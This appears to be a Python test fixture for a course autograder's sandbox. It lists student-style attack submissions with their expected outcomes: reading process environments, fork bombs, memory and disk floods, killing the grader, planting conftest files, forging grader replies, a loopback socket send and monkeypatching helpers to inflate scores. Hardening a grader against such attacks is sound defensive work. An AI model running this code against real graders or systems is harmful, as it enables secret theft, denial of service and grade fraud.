"""Attack submissions against the grader, written as a student who wants the points (or wants to
hurt the class) would write them. Each entry is the code a graded cell runs, on top of either the
untouched release ("release") or a fully solved notebook ("solved"), appended to the source of
the named cell (so a function the attack defines replaces the cell's own), the item scores that
differ from the base (release: all 0; solved: full marks) and the submission's status.

The sandbox is expected to make every attack a no-op for everyone else: the attacker gets the
points its own code earns (the functions it implemented correctly, nothing for what its attack
broke), and honest students graded before and after it keep exactly their scores.
"""
from __future__ import annotations

MARKER = "course-attack-marker"  # in every command line an attack starts, to find survivors

# Writes a reply frame (the wire's header + JSON) straight into the child's response pipe.
FORGE = '''
import os as _os, struct as _struct, sys as _sys, time as _time
def _forge(payload, claimed=None):
    fd = int(_sys.argv[2])
    data = _struct.pack(">QQ", len(payload) if claimed is None else claimed, 0) + payload
    while data:
        data = data[_os.write(fd, data):]
'''
OK_REPLY = b'{"message": {"__dict__": {"ok": true, "value": null}}, "blobs": []}'

# A right He initializer, for the attacks that try to make the given helpers train with it.
RIGHT_HE = '''
def _right_he(layers_dims):
    np.random.seed(3)
    p = {}
    for l in range(1, len(layers_dims)):
        p["W" + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * np.sqrt(2 / layers_dims[l - 1])
        p["b" + str(l)] = np.zeros((layers_dims[l], 1))
    return p
'''

ATTACKS = {
    # 1. remount the read-only virtualenv read-write and install a pytest11 plugin that scores tests
    "escape_remount": ("solved", "initialize_parameters_zeros", '''
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
site = [p for p in sys.path if p.endswith("site-packages")][0]
for flags in (32 | 4096, 32, 4096):  # MS_REMOUNT|MS_BIND, MS_REMOUNT, MS_BIND
    libc.mount(None, site.encode(), None, flags, None)
    libc.mount(site.encode(), site.encode(), None, flags, None)
for path, text in [(site + "/evil_points.py", "def pytest_runtest_makereport(item, call): pass\\n"),
                   (site + "/evil_points-1.0.dist-info/entry_points.txt", "[pytest11]\\nevil = evil_points\\n"),
                   (site + "/zz_evil.pth", "import os\\n"), (site + "/sitecustomize.py", "import os\\n")]:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write(text)
    except OSError:
        pass
''', {}, "graded"),
    # 2. forge "ok" replies, then stop reading requests (used to block the grader forever; the forged
    #    replies answer the grader's requests, which earns nothing)
    "forged_replies_then_hang": ("release", "initialize_parameters_zeros", FORGE + f'''
for _ in range(40):
    _forge({OK_REPLY!r})
_time.sleep(10 ** 6)
''', {}, "graded"),
    # 3. read the grader's environment (bubblewrap's PID 1 used to carry it) and print/return it
    "environment_read": ("release", "initialize_parameters_zeros", '''
import glob, os
seen = {}
for path in glob.glob("/proc/*/environ"):
    try:
        seen[path] = open(path, "rb").read().decode(errors="replace")
    except OSError as exc:
        seen[path] = repr(exc)
seen["self"] = repr(dict(os.environ))
print(seen)
def initialize_parameters_zeros(layers_dims):
    return {"W1": seen}
''', {}, "graded"),
    # 4. process floods: sleepers until the budget refuses, then an unbounded fork bomb
    "fork_flood": ("solved", "initialize_parameters_zeros", f'''
import os, subprocess, sys
procs = []
try:
    for _ in range(3000):
        procs.append(subprocess.Popen(["/bin/sh", "-c", "sleep 600; : {MARKER}"]))
except OSError:
    pass
''', {}, "graded"),
    "fork_bomb": ("release", "initialize_parameters_zeros", '''
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
''', {}, "timeout"),
    # 5. memory: three children of 700 MB each (per-process limits alone would allow 2.1 GB)
    "memory_children": ("solved", "initialize_parameters_zeros", f'''
import subprocess, sys
hog = "b = bytearray(700 << 20)\\nfor i in range(0, len(b), 4096): b[i] = 1\\nimport time; time.sleep(30)"
kids = [subprocess.Popen([sys.executable, "-c", hog, "{MARKER}"]) for _ in range(3)]
import time; time.sleep(1.5)
for k in kids:
    k.kill()
''', {}, "graded"),
    # 6. tmpfs floods: /tmp past its size, /dev/shm, /dev, a memfd
    "tmpfs_flood": ("solved", "initialize_parameters_zeros", '''
import os
chunk = b"x" * (1 << 20)
for target in ("/tmp/fill", "/dev/shm/fill", "/dev/fill"):
    try:
        with open(target, "wb") as f:
            for _ in range(4096):
                f.write(chunk)
    except OSError:
        pass
try:
    fd = os.memfd_create("fill")
    for _ in range(4096):
        os.write(fd, chunk)
except OSError:
    pass
for target in ("/tmp/fill", "/dev/shm/fill", "/dev/fill"):
    try:
        os.unlink(target)
    except OSError:
        pass
''', {}, "graded"),
    # 7. a returned object whose type name is 5 MB (copied into every message before)
    "huge_type_name": ("solved", "initialize_parameters_he", '''
Huge = type("A" * 5_000_000, (), {})
def initialize_parameters_he(layers_dims):
    return Huge()
''', {"initialize_parameters_he": 0}, "graded"),
    # 8. forged replies the grader must refuse without decoding them
    "forged_32mb_reply": ("solved", "initialize_parameters_zeros", FORGE + '''
_forge(b"[" * (1 << 20), claimed=32 << 20)
_time.sleep(60)
''', {"initialize_parameters_zeros": 0}, "crashed"),
    "forged_nested_lists": ("solved", "initialize_parameters_zeros", FORGE + '''
_forge(b'{"message": {"__dict__": {"ok": true, "value": [' + b"[]," * 4_000_000 + b'[]]}}, "blobs": []}')
_time.sleep(60)
''', {"initialize_parameters_zeros": 0}, "crashed"),
    "forged_huge_int": ("solved", "initialize_parameters_zeros", FORGE + '''
_forge(b'{"message": {"__dict__": {"ok": true, "value": 1' + b"0" * 5000 + b'}}, "blobs": []}')
_time.sleep(60)
''', {"initialize_parameters_zeros": 0}, "crashed"),
    # 9. write a conftest.py / ini file where the graders would find it
    "plant_conftest": ("solved", "initialize_parameters_zeros", '''
import os
for folder in ("/submission", "..", "../graders", "../../graders", "../graders/initialization", "/tmp"):
    for name in ("conftest.py", "pytest.ini"):
        try:
            open(os.path.join(folder, name), "w").write("import os; os._exit(0)\\n")
        except OSError:
            pass
''', {}, "graded"),
    # 10. a daemon that leaves the session and outlives its submission
    "setsid_daemon": ("solved", "initialize_parameters_zeros", f'''
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", "{MARKER}"], start_new_session=True)
subprocess.Popen(["/bin/sh", "-c", "sleep 120 # {MARKER}"], start_new_session=True)
''', {}, "graded"),
    # 11. kill the grader: the parent, process 1, every process it may signal
    "grader_kill": ("solved", "initialize_parameters_zeros", '''
import os, signal
for pid in (os.getppid(), 1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
''', {}, "graded"),
    # 12. wrong He, and a redefined given helper that trains with the right one
    "redefined_helper": ("solved", "initialize_parameters_he", RIGHT_HE + '''
_given_train = train
def initialize_parameters_he(layers_dims):
    p = _right_he(layers_dims)
    return {k: (v / np.sqrt(2) if k[0] == "W" else v) for k, v in p.items()}
def train(X, Y, initialization, **kwargs):
    globals()["initialize_parameters_he"] = _right_he
    return _given_train(X, Y, initialization, **kwargs)
''', {"initialize_parameters_he": 0}, "graded"),
    # 13. namespaces, mounts and ptrace: refused by the seccomp filter and the missing capabilities
    "namespaces_and_ptrace": ("solved", "initialize_parameters_zeros", '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.unshare(0x10000000 | 0x00020000)
libc.mount(b"none", b"/submission", b"tmpfs", 0, None)
libc.ptrace(16, 1, 0, 0)  # PTRACE_ATTACH to process 1
''', {}, "graded"),
    # 14. look for the reference solution or the graders anywhere on the filesystem
    "search_for_solutions": ("solved", "initialize_parameters_zeros", '''
import os
found = []
for top in ("/", ):
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "lib", "include", "share")]
        for name in files:
            if name.endswith((".ipynb", ".db")) or name.startswith("test_init"):
                found.append(os.path.join(folder, name))
if found:
    def initialize_parameters_zeros(layers_dims):
        return {"found": found}
''', {}, "graded"),
    # 15. the network: the test listens on loopback; nothing may arrive
    "network": ("solved", "initialize_parameters_zeros", '''
import socket
for host in ("127.0.0.1", "::1", "10.0.2.2"):
    try:
        socket.create_connection((host, {port}), timeout=1).sendall(b"stolen")
    except OSError:
        pass
''', {}, "graded"),
    # 16. a function that hangs: one timeout, then fast failures for its other tests
    "hang_once_then_fast": ("solved", "initialize_parameters_random", '''
def initialize_parameters_random(layers_dims):
    while True:
        pass
''', {"initialize_parameters_random": 0}, "timeout"),
    # 17. a huge return value and a huge printed output
    "huge_values": ("solved", "initialize_parameters_xavier", '''
print("y" * (30 << 20))
def initialize_parameters_xavier(layers_dims):
    return {"W1": ["z" * 1000] * 5000, "b1": list(range(500_000))}
''', {"initialize_parameters_xavier": 0}, "graded"),
    # 18. wrong He, and the given init_utils rewired in place so that train() uses a right one
    "rewired_resolver": ("solved", "initialize_parameters_he", RIGHT_HE + '''
def initialize_parameters_he(layers_dims):
    p = _right_he(layers_dims)
    return {k: (v / np.sqrt(2) if k[0] == "W" else v) for k, v in p.items()}
import init_utils as _iu
_iu._resolve_initializer = lambda initialization: _right_he
''', {"initialize_parameters_he": 0}, "graded"),
    # 19. wrong He, and train's code object replaced by one that trains with a right one
    "rewired_train_code": ("solved", "initialize_parameters_he", RIGHT_HE + '''
import types as _types
def initialize_parameters_he(layers_dims):
    p = _right_he(layers_dims)
    return {k: (v / np.sqrt(2) if k[0] == "W" else v) for k, v in p.items()}
train.__globals__["_train_copy"] = _types.FunctionType(train.__code__, train.__globals__, "copy",
                                                       train.__defaults__)
train.__globals__["_right_he"] = _right_he
def _evil(X, Y, initialization="he", learning_rate=0.01, num_iterations=15000, record_every=1000, print_cost=False):
    return _train_copy(X, Y, _right_he, learning_rate, num_iterations, record_every, print_cost)
train.__code__ = _evil.__code__
''', {"initialize_parameters_he": 0}, "graded"),
}

# --- the same attacks on the tiny course (tests/fixtures/tiny_course) --------------------------------
# These three aim at what Initialization gives its students (init_utils, train): they stay on it.
CONTENT_ATTACKS = ("redefined_helper", "rewired_resolver", "rewired_train_code")
# Every other attack is on the machinery (sandbox, wire, processes, files): on the tiny course it is the
# same code in the cell of `add` (1 point) or `scale` (2), with the function it defines rewritten for it.
_TINY_CELL = {"initialize_parameters_zeros": "add", "initialize_parameters_random": "scale",
              "initialize_parameters_he": "scale", "initialize_parameters_xavier": "scale"}
_TINY_CODE = {
    "environment_read": '''
import glob, os
seen = {}
for path in glob.glob("/proc/*/environ"):
    try:
        seen[path] = open(path, "rb").read().decode(errors="replace")
    except OSError as exc:
        seen[path] = repr(exc)
seen["self"] = repr(dict(os.environ))
print(seen)
def add(a, b):
    return {"W1": seen}
''',
    "huge_type_name": '''
Huge = type("A" * 5_000_000, (), {})
def scale(x, k):
    return Huge()
''',
    "search_for_solutions": '''
import os
found = []
for top in ("/", ):
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "lib", "include", "share")]
        for name in files:
            if name.endswith((".ipynb", ".db")) or name.startswith(("test_tiny", "test_init")):
                found.append(os.path.join(folder, name))
if found:
    def add(a, b):
        return {"found": found}
''',
    "hang_once_then_fast": '''
def scale(x, k):
    while True:
        pass
''',
    "huge_values": '''
print("y" * (30 << 20))
def scale(x, k):
    return {"W1": ["z" * 1000] * 5000, "b1": list(range(500_000))}
''',
}


def _tiny(name: str, attack: tuple) -> tuple:
    base, cell_id, code, changes, status = attack
    code = _TINY_CODE.get(name, code).replace("graders/initialization", "graders/tiny")
    return base, _TINY_CELL[cell_id], code, {_TINY_CELL[k]: v for k, v in changes.items()}, status


TINY_ATTACKS = {name: _tiny(name, attack) for name, attack in ATTACKS.items() if name not in CONTENT_ATTACKS}
